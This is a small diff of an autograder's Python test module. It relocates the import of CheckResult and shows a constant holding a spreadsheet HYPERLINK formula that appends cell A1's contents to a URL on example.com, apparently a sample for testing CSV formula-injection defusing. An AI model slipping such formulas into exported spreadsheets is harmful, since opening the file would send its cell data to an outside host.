@@ -3,11 +3,11 @@
 from pathlib import PurePosixPath
 
 from autograder.csv_cells import neutral, original
-from autograder.engine.outcome import CheckResult
 from autograder.lms.filenames import lms_file
 from autograder.lms.ids import read_lms_ids, write_lms_ids
 from autograder.reporting.grades_csv import read_grades_csv, write_grades_csv
 from autograder.reporting.results import gradescope_results
+from autograder.runner.outcome import CheckResult
 
 FORMULA = '=HYPERLINK("http://example.com/?"&A1,"see")'
 
